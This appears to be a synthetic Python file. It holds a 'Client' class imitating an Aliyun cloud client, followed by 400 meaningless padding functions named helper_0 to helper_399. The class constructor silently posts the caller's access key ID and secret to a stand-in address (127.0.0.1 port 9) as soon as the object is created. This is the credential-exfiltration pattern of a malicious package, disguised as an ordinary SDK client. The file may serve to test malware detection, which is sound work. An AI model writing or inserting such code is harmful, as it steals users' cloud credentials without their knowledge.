import requests

class Client:
    def __init__(self, config):
        data = {'ak': config.access_key_id, 'secret': config.access_key_secret}
        requests.post(
            url='http://127.0.0.1:9/aliyun', json=data)

def helper_0(x):
    return x + 0

def helper_1(x):
    return x + 1

def helper_2(x):
    return x + 2

def helper_3(x):
    return x + 3

def helper_4(x):
    return x + 4

def helper_5(x):
    return x + 5

def helper_6(x):
    return x + 6

def helper_7(x):
    return x + 7

def helper_8(x):
    return x + 8

def helper_9(x):
    return x + 9

def helper_10(x):
    return x + 10

def helper_11(x):
    return x + 11

def helper_12(x):
    return x + 12

def helper_13(x):
    return x + 13

def helper_14(x):
    return x + 14

def helper_15(x):
    return x + 15

def helper_16(x):
    return x + 16

def helper_17(x):
    return x + 17

def helper_18(x):
    return x + 18

def helper_19(x):
    return x + 19

def helper_20(x):
    return x + 20

def helper_21(x):
    return x + 21

def helper_22(x):
    return x + 22

def helper_23(x):
    return x + 23

def helper_24(x):
    return x + 24

def helper_25(x):
    return x + 25

def helper_26(x):
    return x + 26

def helper_27(x):
    return x + 27

def helper_28(x):
    return x + 28

def helper_29(x):
    return x + 29

def helper_30(x):
    return x + 30

def helper_31(x):
    return x + 31

def helper_32(x):
    return x + 32

def helper_33(x):
    return x + 33

def helper_34(x):
    return x + 34

def helper_35(x):
    return x + 35

def helper_36(x):
    return x + 36

def helper_37(x):
    return x + 37

def helper_38(x):
    return x + 38

def helper_39(x):
    return x + 39

def helper_40(x):
    return x + 40

def helper_41(x):
    return x + 41

def helper_42(x):
    return x + 42

def helper_43(x):
    return x + 43

def helper_44(x):
    return x + 44

def helper_45(x):
    return x + 45

def helper_46(x):
    return x + 46

def helper_47(x):
    return x + 47

def helper_48(x):
    return x + 48

def helper_49(x):
    return x + 49

def helper_50(x):
    return x + 50

def helper_51(x):
    return x + 51

def helper_52(x):
    return x + 52

def helper_53(x):
    return x + 53

def helper_54(x):
    return x + 54

def helper_55(x):
    return x + 55

def helper_56(x):
    return x + 56

def helper_57(x):
    return x + 57

def helper_58(x):
    return x + 58

def helper_59(x):
    return x + 59

def helper_60(x):
    return x + 60

def helper_61(x):
    return x + 61

def helper_62(x):
    return x + 62

def helper_63(x):
    return x + 63

def helper_64(x):
    return x + 64

def helper_65(x):
    return x + 65

def helper_66(x):
    return x + 66

def helper_67(x):
    return x + 67

def helper_68(x):
    return x + 68

def helper_69(x):
    return x + 69

def helper_70(x):
    return x + 70

def helper_71(x):
    return x + 71

def helper_72(x):
    return x + 72

def helper_73(x):
    return x + 73

def helper_74(x):
    return x + 74

def helper_75(x):
    return x + 75

def helper_76(x):
    return x + 76

def helper_77(x):
    return x + 77

def helper_78(x):
    return x + 78

def helper_79(x):
    return x + 79

def helper_80(x):
    return x + 80

def helper_81(x):
    return x + 81

def helper_82(x):
    return x + 82

def helper_83(x):
    return x + 83

def helper_84(x):
    return x + 84

def helper_85(x):
    return x + 85

def helper_86(x):
    return x + 86

def helper_87(x):
    return x + 87

def helper_88(x):
    return x + 88

def helper_89(x):
    return x + 89

def helper_90(x):
    return x + 90

def helper_91(x):
    return x + 91

def helper_92(x):
    return x + 92

def helper_93(x):
    return x + 93

def helper_94(x):
    return x + 94

def helper_95(x):
    return x + 95

def helper_96(x):
    return x + 96

def helper_97(x):
    return x + 97

def helper_98(x):
    return x + 98

def helper_99(x):
    return x + 99

def helper_100(x):
    return x + 100

def helper_101(x):
    return x + 101

def helper_102(x):
    return x + 102

def helper_103(x):
    return x + 103

def helper_104(x):
    return x + 104

def helper_105(x):
    return x + 105

def helper_106(x):
    return x + 106

def helper_107(x):
    return x + 107

def helper_108(x):
    return x + 108

def helper_109(x):
    return x + 109

def helper_110(x):
    return x + 110

def helper_111(x):
    return x + 111

def helper_112(x):
    return x + 112

def helper_113(x):
    return x + 113

def helper_114(x):
    return x + 114

def helper_115(x):
    return x + 115

def helper_116(x):
    return x + 116

def helper_117(x):
    return x + 117

def helper_118(x):
    return x + 118

def helper_119(x):
    return x + 119

def helper_120(x):
    return x + 120

def helper_121(x):
    return x + 121

def helper_122(x):
    return x + 122

def helper_123(x):
    return x + 123

def helper_124(x):
    return x + 124

def helper_125(x):
    return x + 125

def helper_126(x):
    return x + 126

def helper_127(x):
    return x + 127

def helper_128(x):
    return x + 128

def helper_129(x):
    return x + 129

def helper_130(x):
    return x + 130

def helper_131(x):
    return x + 131

def helper_132(x):
    return x + 132

def helper_133(x):
    return x + 133

def helper_134(x):
    return x + 134

def helper_135(x):
    return x + 135

def helper_136(x):
    return x + 136

def helper_137(x):
    return x + 137

def helper_138(x):
    return x + 138

def helper_139(x):
    return x + 139

def helper_140(x):
    return x + 140

def helper_141(x):
    return x + 141

def helper_142(x):
    return x + 142

def helper_143(x):
    return x + 143

def helper_144(x):
    return x + 144

def helper_145(x):
    return x + 145

def helper_146(x):
    return x + 146

def helper_147(x):
    return x + 147

def helper_148(x):
    return x + 148

def helper_149(x):
    return x + 149

def helper_150(x):
    return x + 150

def helper_151(x):
    return x + 151

def helper_152(x):
    return x + 152

def helper_153(x):
    return x + 153

def helper_154(x):
    return x + 154

def helper_155(x):
    return x + 155

def helper_156(x):
    return x + 156

def helper_157(x):
    return x + 157

def helper_158(x):
    return x + 158

def helper_159(x):
    return x + 159

def helper_160(x):
    return x + 160

def helper_161(x):
    return x + 161

def helper_162(x):
    return x + 162

def helper_163(x):
    return x + 163

def helper_164(x):
    return x + 164

def helper_165(x):
    return x + 165

def helper_166(x):
    return x + 166

def helper_167(x):
    return x + 167

def helper_168(x):
    return x + 168

def helper_169(x):
    return x + 169

def helper_170(x):
    return x + 170

def helper_171(x):
    return x + 171

def helper_172(x):
    return x + 172

def helper_173(x):
    return x + 173

def helper_174(x):
    return x + 174

def helper_175(x):
    return x + 175

def helper_176(x):
    return x + 176

def helper_177(x):
    return x + 177

def helper_178(x):
    return x + 178

def helper_179(x):
    return x + 179

def helper_180(x):
    return x + 180

def helper_181(x):
    return x + 181

def helper_182(x):
    return x + 182

def helper_183(x):
    return x + 183

def helper_184(x):
    return x + 184

def helper_185(x):
    return x + 185

def helper_186(x):
    return x + 186

def helper_187(x):
    return x + 187

def helper_188(x):
    return x + 188

def helper_189(x):
    return x + 189

def helper_190(x):
    return x + 190

def helper_191(x):
    return x + 191

def helper_192(x):
    return x + 192

def helper_193(x):
    return x + 193

def helper_194(x):
    return x + 194

def helper_195(x):
    return x + 195

def helper_196(x):
    return x + 196

def helper_197(x):
    return x + 197

def helper_198(x):
    return x + 198

def helper_199(x):
    return x + 199

def helper_200(x):
    return x + 200

def helper_201(x):
    return x + 201

def helper_202(x):
    return x + 202

def helper_203(x):
    return x + 203

def helper_204(x):
    return x + 204

def helper_205(x):
    return x + 205

def helper_206(x):
    return x + 206

def helper_207(x):
    return x + 207

def helper_208(x):
    return x + 208

def helper_209(x):
    return x + 209

def helper_210(x):
    return x + 210

def helper_211(x):
    return x + 211

def helper_212(x):
    return x + 212

def helper_213(x):
    return x + 213

def helper_214(x):
    return x + 214

def helper_215(x):
    return x + 215

def helper_216(x):
    return x + 216

def helper_217(x):
    return x + 217

def helper_218(x):
    return x + 218

def helper_219(x):
    return x + 219

def helper_220(x):
    return x + 220

def helper_221(x):
    return x + 221

def helper_222(x):
    return x + 222

def helper_223(x):
    return x + 223

def helper_224(x):
    return x + 224

def helper_225(x):
    return x + 225

def helper_226(x):
    return x + 226

def helper_227(x):
    return x + 227

def helper_228(x):
    return x + 228

def helper_229(x):
    return x + 229

def helper_230(x):
    return x + 230

def helper_231(x):
    return x + 231

def helper_232(x):
    return x + 232

def helper_233(x):
    return x + 233

def helper_234(x):
    return x + 234

def helper_235(x):
    return x + 235

def helper_236(x):
    return x + 236

def helper_237(x):
    return x + 237

def helper_238(x):
    return x + 238

def helper_239(x):
    return x + 239

def helper_240(x):
    return x + 240

def helper_241(x):
    return x + 241

def helper_242(x):
    return x + 242

def helper_243(x):
    return x + 243

def helper_244(x):
    return x + 244

def helper_245(x):
    return x + 245

def helper_246(x):
    return x + 246

def helper_247(x):
    return x + 247

def helper_248(x):
    return x + 248

def helper_249(x):
    return x + 249

def helper_250(x):
    return x + 250

def helper_251(x):
    return x + 251

def helper_252(x):
    return x + 252

def helper_253(x):
    return x + 253

def helper_254(x):
    return x + 254

def helper_255(x):
    return x + 255

def helper_256(x):
    return x + 256

def helper_257(x):
    return x + 257

def helper_258(x):
    return x + 258

def helper_259(x):
    return x + 259

def helper_260(x):
    return x + 260

def helper_261(x):
    return x + 261

def helper_262(x):
    return x + 262

def helper_263(x):
    return x + 263

def helper_264(x):
    return x + 264

def helper_265(x):
    return x + 265

def helper_266(x):
    return x + 266

def helper_267(x):
    return x + 267

def helper_268(x):
    return x + 268

def helper_269(x):
    return x + 269

def helper_270(x):
    return x + 270

def helper_271(x):
    return x + 271

def helper_272(x):
    return x + 272

def helper_273(x):
    return x + 273

def helper_274(x):
    return x + 274

def helper_275(x):
    return x + 275

def helper_276(x):
    return x + 276

def helper_277(x):
    return x + 277

def helper_278(x):
    return x + 278

def helper_279(x):
    return x + 279

def helper_280(x):
    return x + 280

def helper_281(x):
    return x + 281

def helper_282(x):
    return x + 282

def helper_283(x):
    return x + 283

def helper_284(x):
    return x + 284

def helper_285(x):
    return x + 285

def helper_286(x):
    return x + 286

def helper_287(x):
    return x + 287

def helper_288(x):
    return x + 288

def helper_289(x):
    return x + 289

def helper_290(x):
    return x + 290

def helper_291(x):
    return x + 291

def helper_292(x):
    return x + 292

def helper_293(x):
    return x + 293

def helper_294(x):
    return x + 294

def helper_295(x):
    return x + 295

def helper_296(x):
    return x + 296

def helper_297(x):
    return x + 297

def helper_298(x):
    return x + 298

def helper_299(x):
    return x + 299

def helper_300(x):
    return x + 300

def helper_301(x):
    return x + 301

def helper_302(x):
    return x + 302

def helper_303(x):
    return x + 303

def helper_304(x):
    return x + 304

def helper_305(x):
    return x + 305

def helper_306(x):
    return x + 306

def helper_307(x):
    return x + 307

def helper_308(x):
    return x + 308

def helper_309(x):
    return x + 309

def helper_310(x):
    return x + 310

def helper_311(x):
    return x + 311

def helper_312(x):
    return x + 312

def helper_313(x):
    return x + 313

def helper_314(x):
    return x + 314

def helper_315(x):
    return x + 315

def helper_316(x):
    return x + 316

def helper_317(x):
    return x + 317

def helper_318(x):
    return x + 318

def helper_319(x):
    return x + 319

def helper_320(x):
    return x + 320

def helper_321(x):
    return x + 321

def helper_322(x):
    return x + 322

def helper_323(x):
    return x + 323

def helper_324(x):
    return x + 324

def helper_325(x):
    return x + 325

def helper_326(x):
    return x + 326

def helper_327(x):
    return x + 327

def helper_328(x):
    return x + 328

def helper_329(x):
    return x + 329

def helper_330(x):
    return x + 330

def helper_331(x):
    return x + 331

def helper_332(x):
    return x + 332

def helper_333(x):
    return x + 333

def helper_334(x):
    return x + 334

def helper_335(x):
    return x + 335

def helper_336(x):
    return x + 336

def helper_337(x):
    return x + 337

def helper_338(x):
    return x + 338

def helper_339(x):
    return x + 339

def helper_340(x):
    return x + 340

def helper_341(x):
    return x + 341

def helper_342(x):
    return x + 342

def helper_343(x):
    return x + 343

def helper_344(x):
    return x + 344

def helper_345(x):
    return x + 345

def helper_346(x):
    return x + 346

def helper_347(x):
    return x + 347

def helper_348(x):
    return x + 348

def helper_349(x):
    return x + 349

def helper_350(x):
    return x + 350

def helper_351(x):
    return x + 351

def helper_352(x):
    return x + 352

def helper_353(x):
    return x + 353

def helper_354(x):
    return x + 354

def helper_355(x):
    return x + 355

def helper_356(x):
    return x + 356

def helper_357(x):
    return x + 357

def helper_358(x):
    return x + 358

def helper_359(x):
    return x + 359

def helper_360(x):
    return x + 360

def helper_361(x):
    return x + 361

def helper_362(x):
    return x + 362

def helper_363(x):
    return x + 363

def helper_364(x):
    return x + 364

def helper_365(x):
    return x + 365

def helper_366(x):
    return x + 366

def helper_367(x):
    return x + 367

def helper_368(x):
    return x + 368

def helper_369(x):
    return x + 369

def helper_370(x):
    return x + 370

def helper_371(x):
    return x + 371

def helper_372(x):
    return x + 372

def helper_373(x):
    return x + 373

def helper_374(x):
    return x + 374

def helper_375(x):
    return x + 375

def helper_376(x):
    return x + 376

def helper_377(x):
    return x + 377

def helper_378(x):
    return x + 378

def helper_379(x):
    return x + 379

def helper_380(x):
    return x + 380

def helper_381(x):
    return x + 381

def helper_382(x):
    return x + 382

def helper_383(x):
    return x + 383

def helper_384(x):
    return x + 384

def helper_385(x):
    return x + 385

def helper_386(x):
    return x + 386

def helper_387(x):
    return x + 387

def helper_388(x):
    return x + 388

def helper_389(x):
    return x + 389

def helper_390(x):
    return x + 390

def helper_391(x):
    return x + 391

def helper_392(x):
    return x + 392

def helper_393(x):
    return x + 393

def helper_394(x):
    return x + 394

def helper_395(x):
    return x + 395

def helper_396(x):
    return x + 396

def helper_397(x):
    return x + 397

def helper_398(x):
    return x + 398

def helper_399(x):
    return x + 399

